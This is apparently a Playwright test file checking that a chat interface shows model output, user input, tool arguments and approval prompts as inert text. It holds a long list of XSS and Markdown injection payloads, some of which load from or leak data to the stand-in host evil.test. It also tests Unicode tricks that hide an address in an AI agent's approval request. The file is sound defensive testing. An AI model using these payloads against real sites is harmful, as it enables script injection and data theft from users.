"""What a model says is shown and never run: attacks in Markdown and HTML, while they arrive and afterwards."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect

EVIL = "https://evil.test"
ATTACKS = [
    # elements that run or load
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.test/a.png>",
    "<IMG SRC=\"jav\tascript:alert('1');\">",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='https://evil.test/x.svg#a'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>",
    "<math href='javascript:alert(1)'>click</math>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=https://evil.test/x></object>",
    "<embed src=https://evil.test/x>",
    "<video src=https://evil.test/v autoplay onloadstart=alert(1)></video>",
    "<audio src=https://evil.test/a onerror=alert(1) autoplay></audio>",
    "<video><source onerror=alert(1)></video>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<link rel=prefetch href=https://evil.test/p>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test/>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<p style='background:url(https://evil.test/b)'>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.test><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a href=javascript:alert(1) ping=https://evil.test>x</a>",
    "<div id=app data-socket=//evil.test/ws>clobbered</div><form id=composer><input name=field></form>",
    # Markdown that loads or leads
    "![image](https://evil.test/i.png)",
    '![i](https://evil.test/?q=secret "t")',
    "![a][img]\n\n[img]: https://evil.test/r.png",
    "[![in](https://evil.test/n.png)](https://evil.test)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.test)",
    "[x](\\\\evil.test)",
    '[x](https://ok.test "onmouseover=alert(1) x=")',
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "`<img src=x onerror=alert(1)>` and ``</code><script>alert(1)</script>``",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> | b |\n|--|--|\n| [x](javascript:alert(1)) | <svg onload=alert(1)> |",
    "- [ ] <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    r"$\href{javascript:alert(1)}{x}$ and $\text{<img src=x onerror=alert(1)>}$",
    r"$$\unicode{<script>alert(1)</script>}$$ and \(\style{background:url(https://evil.test)}{x}\)",
    'https://evil.test/"onmouseover=alert(1)//',
    "\u202ejavascript:alert(1)\u202c <\u200bscript>alert(1)</script>",
]

FORBIDDEN = """() => Array.from(document.querySelectorAll(".turns *")).filter((element) => {
    const loads = "script, iframe, object, embed, link, meta, base, style, template, video, audio, img, image";
    const own = "[data-ui-own], [type=checkbox][disabled]";
    const asks = `form[action], .prose :is(form, button, textarea, select, input):not(${own})`;
    const runs = (name) => name.startsWith("on") || ["srcdoc", "ping", "formaction"].includes(name);
    const leads = !["http:", "https:", "mailto:"].includes(element.protocol);
    return element.matches(`${loads}, ${asks}`)
        || element.getAttributeNames().some(runs)
        || (element.matches("a[href]") && leads)
        || (element.matches(".prose *") && (element.hasAttribute("style") || element.id));
}).map((element) => element.outerHTML.slice(0, 200))"""


@pytest.fixture
def dialogs(chat):
    found: list[str] = []
    chat.page.on("dialog", lambda dialog: (found.append(dialog.message), dialog.dismiss()))
    return found


def said(text: str) -> str:
    """A message that makes the model say this text, one character after the other. No bracket of it ends the order."""
    quoted = json.dumps(text).replace("[", r"\u005b").replace("]", r"\u005d")
    return f"[[text={quoted} piece=1 tps=2000]]"


def test_no_attack_runs_loads_or_leads_while_it_arrives_or_afterwards(chat, dialogs):
    """The page's fixture fails on requests to another host and on messages of the policy."""
    chat.say(said("\n\n".join(ATTACKS)))
    while not chat.replies.count() or chat.page.locator("[aria-busy=true]").count():
        assert chat.page.evaluate(FORBIDDEN) == []
        chat.page.wait_for_timeout(50)  # to look again and again while it grows
    chat.answered()
    for _ in range(2):
        assert chat.page.evaluate(FORBIDDEN) == []
        text = chat.replies.locator(".prose").inner_text()
        assert text.count("alert(1)") >= 40, "what was attacked with is shown"
        for link in chat.replies.locator(".prose a[href]").all():
            assert "noopener" in link.get_attribute("rel")
            link.hover()
            link.focus()
        chat.page.reload()
        chat.answered()
    assert dialogs == []
    expect(chat.page.locator("#app")).to_have_attribute("data-socket", "/ws/chat/")


def test_the_user_s_own_attacks_are_text_everywhere(chat, dialogs):
    attack = f'<img src={EVIL}/u.png onerror=alert(1)><script>alert(1)</script> "><svg onload=alert(1)>'
    chat.say(f'{attack} [[text="ok"]]')
    chat.answered()
    expect(chat.page.locator(".bubble")).to_contain_text(attack)
    expect(chat.page.locator(".chat").first).to_contain_text("<img src=")  # the title of the conversation
    chat.page.reload()
    chat.answered()
    assert chat.page.evaluate(FORBIDDEN) == [] and dialogs == []
    assert chat.page.locator(".sidebar img, .bar img, title img").count() == 0


def test_tool_names_arguments_results_and_questions_are_text(chat, dialogs):
    attack = f"<img src={EVIL}/t.png onerror=alert(1)><script>alert(1)</script>"
    chat.page.locator("input[name=agent][value=tools]").check()
    chat.connected()
    args = json.dumps({"question": attack, "kind": "choice"})
    chat.say(f"[[tool=ask_user args={args}]]")
    ask = chat.page.locator(".ask")
    expect(ask).to_contain_text(attack)
    assert chat.page.evaluate(FORBIDDEN) == []
    ask.get_by_role("button", name="red").click()
    chat.answered(2)
    chat.page.reload()
    chat.answered(2)  # what asked stands before its answer, as it came
    for summary in chat.page.locator(".turns summary").all():
        summary.click()
    expect(chat.page.locator(".turns")).to_contain_text("onerror=alert(1)")
    assert chat.page.evaluate(FORBIDDEN) == [] and dialogs == []


def test_what_turns_the_direction_or_has_no_width_is_shown_where_people_approve(chat):
    """An approval never shows another address than the one it runs with; nor does the list or the title."""
    chat.page.locator("input[name=agent][value=tools]").check()
    chat.connected()
    hidden = "\u202e\u2066\u200b\u00ad\ufeff"
    args = json.dumps({"question": f"Send it to safe.test/{hidden}tset.live?", "kind": "approval"})
    chat.say(f"{hidden}title [[tool=ask_user args={args}]]")
    shown = "safe.test/" + "".join(f"‹U+{ord(letter):04X}›" for letter in hidden) + "tset.live"
    ask = chat.page.locator(".ask")
    ask.wait_for()
    expect(ask).to_contain_text(shown)
    raw = f"""() => [...document.querySelectorAll(".ask, .turns details, .sidebar, title, .bar")]
        .map((part) => part.textContent).filter((text) => /[{hidden}]/u.test(text))"""
    assert chat.page.evaluate(raw) == []
    ask.get_by_role("button", name="Approve").click()
    chat.answered(2)
    chat.page.reload()
    chat.answered(2)  # what asked stands before its answer, as it came
    for summary in chat.page.locator(".turns summary").all():
        summary.click()
    expect(chat.page.locator(".turns")).to_contain_text(shown)
    assert chat.page.evaluate(raw) == []
    args = json.dumps({"question": f"safe{hidden}", "kind": "choice"})
    chat.say(f"[[tool=ask_user args={args}]]")
    expect(ask.get_by_role("button").last).to_have_text("safe" + "".join(f"‹U+{ord(it):04X}›" for it in hidden))
